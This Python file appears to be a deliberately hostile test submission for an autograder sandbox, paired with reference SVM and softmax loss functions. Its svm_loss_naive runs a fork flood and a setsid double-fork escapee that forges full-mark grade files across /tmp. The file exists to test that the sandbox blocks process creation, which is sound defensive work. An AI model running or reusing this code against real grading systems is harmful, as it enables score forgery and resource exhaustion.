"""Hostile submission ``fork_flood_escapee``: a fork flood plus a ``setsid`` + double-fork escapee that later forges results.

On its first call in a worker, ``svm_loss_naive`` (1) starts an escapee: fork,
``setsid``, fork again, then exec a fresh Python whose command line carries a marker;
it sleeps a second, then for 90 s keeps trying to write forged ``grades.csv``,
``results.json`` and ``propgrade.json`` (full marks) into the output folder and into
every output-looking folder it finds under /tmp; (2) forks sleeping children in a loop
until fork fails (at most 300). It then returns a wrong answer. The other functions are
the reference.

Expected: the worker cannot start a process at all (full layer: RLIMIT_NPROC of its own
uid; reduced layer: the seccomp filter denies fork, clone and exec), so neither the escapee
nor the flood starts; nothing is written anywhere.
"""

import os
import sys

import numpy as np

ATTACK = "fork_flood_escapee"


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


import time

_OUT_DIR = _template("__HOSTILE_OUT_DIR__")
_MARKER = _template("__HOSTILE_MARKER__") or "propgrade-hostile-escapee"

_ESCAPEE = r"""
import json, os, sys, time
marker, out_dir = sys.argv[1], sys.argv[2]
try:
    os.write(2, b"HOSTILE[fork_flood_escapee]: escapee alive\n")
except OSError:
    pass
time.sleep(1.0)
forged = {"score": 44, "max_score": 44, "output": "forged by " + marker, "tests": []}
end = time.time() + 90
while time.time() < end:
    targets = [out_dir] if out_dir != "-" else []
    for top, dirs, files in os.walk("/tmp"):
        if top.count(os.sep) > 7:
            dirs[:] = []
        if "grades.csv" in files:
            targets.append(top)
    for target in targets:
        try:
            with open(os.path.join(target, "grades.csv"), "w") as f:
                f.write("student,score,max_score\nfork_flood_escapee,44,44\n")
            for student in os.listdir(target):
                folder = os.path.join(target, student)
                if os.path.isdir(folder):
                    for name in ("results.json", "propgrade.json"):
                        with open(os.path.join(folder, name), "w") as f:
                            json.dump(forged, f)
        except OSError:
            pass
    time.sleep(0.5)
"""

_FLOODED = []


def _start_escapee():
    middle = os.fork()
    if middle == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(
                    sys.executable,
                    [sys.executable, "-I", "-c", _ESCAPEE, _MARKER, _OUT_DIR or "-"],
                )
        finally:
            os._exit(0)
    os.waitpid(middle, 0)


def _flood():
    children = 0
    error = "no error"
    for _ in range(300):
        try:
            pid = os.fork()
        except OSError as exc:
            error = repr(exc)
            break
        if pid == 0:
            try:
                time.sleep(600)
            finally:
                os._exit(0)
        children += 1
    return children, error


def svm_loss_naive(W, X, y, reg):
    if not _FLOODED:
        _FLOODED.append(True)
        try:
            _start_escapee()
            _say("escapee started")
        except OSError as exc:
            _say("escapee failed: %r" % (exc,))
        children, error = _flood()
        _say("forked %d children, then: %s" % (children, error))
    return 0.0, np.zeros(np.shape(W))


def svm_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    correct_class_scores = scores[rows, y][:, np.newaxis]  # (N, 1)
    margins = np.maximum(0.0, scores - correct_class_scores + 1.0)  # delta = 1
    margins[rows, y] = 0.0  # the correct class never contributes
    loss = np.sum(margins) / num_train + reg * np.sum(W * W)

    # d loss_i / d s_j is 1 for every active margin j and -(number of active margins)
    # for j = y[i]. Each row is written once, so repeated labels are handled correctly.
    coeff = (margins > 0).astype(np.float64)  # (N, C)
    coeff[rows, y] = -np.sum(coeff, axis=1)
    dW = X.T.dot(coeff) / num_train + 2 * reg * W
    return float(loss), dW


def softmax_loss_naive(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    num_classes = W.shape[1]
    loss = 0.0
    dW = np.zeros(W.shape, dtype=np.float64)
    for i in range(num_train):
        scores = X[i].dot(W)
        shifted = scores - np.max(scores)  # for numerical stability
        log_sum_exp = np.log(np.sum(np.exp(shifted)))
        loss += log_sum_exp - shifted[y[i]]  # -log p[y[i]]
        for j in range(num_classes):
            p_j = np.exp(shifted[j] - log_sum_exp)
            if j == y[i]:
                dW[:, j] += (p_j - 1.0) * X[i]
            else:
                dW[:, j] += p_j * X[i]
    loss /= num_train
    dW /= num_train
    loss += reg * np.sum(W * W)
    dW += 2 * reg * W
    return float(loss), dW


def softmax_loss_vectorized(W, X, y, reg):
    W = np.asarray(W, dtype=np.float64)  # no copy for float64 input: never write into W or X
    X = np.asarray(X, dtype=np.float64)
    num_train = X.shape[0]
    rows = np.arange(num_train)
    scores = X.dot(W)  # (N, C)
    shifted = scores - np.max(scores, axis=1, keepdims=True)  # per-row shift for stability
    log_probs = shifted - np.log(np.sum(np.exp(shifted), axis=1, keepdims=True))
    loss = -np.sum(log_probs[rows, y]) / num_train + reg * np.sum(W * W)

    dscores = np.exp(log_probs)  # probabilities, (N, C)
    dscores[rows, y] -= 1.0  # the pairs (i, y[i]) are all distinct: no update is lost
    dW = X.T.dot(dscores) / num_train + 2 * reg * W
    return float(loss), dW
